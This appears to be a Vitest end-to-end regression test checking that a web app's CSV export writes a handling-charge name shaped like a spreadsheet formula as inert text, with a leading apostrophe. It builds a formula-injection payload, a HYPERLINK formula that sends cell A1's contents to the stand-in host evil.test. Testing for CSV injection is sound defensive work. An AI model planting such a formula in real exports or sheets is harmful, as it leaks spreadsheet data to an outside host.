import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import { loginAs, useBrowser, savedFile } from '../support/e2e-browser.js';
import { api, unique } from '../support/e2e-crud.js';

describe('list exports write formulas as text (issue 29)', () => {
  const browser = useBrowser();

  it('a handling charge named like a spreadsheet formula exports as text: the cell starts with an apostrophe', async () => {
    const marker = unique('Probe');
    const name = `=HYPERLINK("http://evil.test/?"&A1,"${marker}")`;
    const made = await api<{ _id: string }>('POST', '/handling-charges', { charge_type: name, amount: 12.5 }, 'warehouse');
    expect(made.status).toBe(201);
    try {
      const page = browser.page();
      await loginAs(page, 'admin', '/handling-charges');
      await page.getByText(name, { exact: true }).waitFor();
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
      const csv = fs.readFileSync(await savedFile(download), 'utf8');
      const line = csv.split(/\r?\n/).find((l) => l.includes(marker))!;
      // Quoted by the CSV writer, with its inner quotes doubled; what a spreadsheet reads starts with ', not =.
      expect(line.startsWith(`"'=HYPERLINK(""http://evil.test/?""&A1,""${marker}"")"`), line).toBe(true);
      expect(line).toContain('12.5');
    } finally {
      await api('DELETE', `/handling-charges/${made.body._id}`);
    }
  });
});
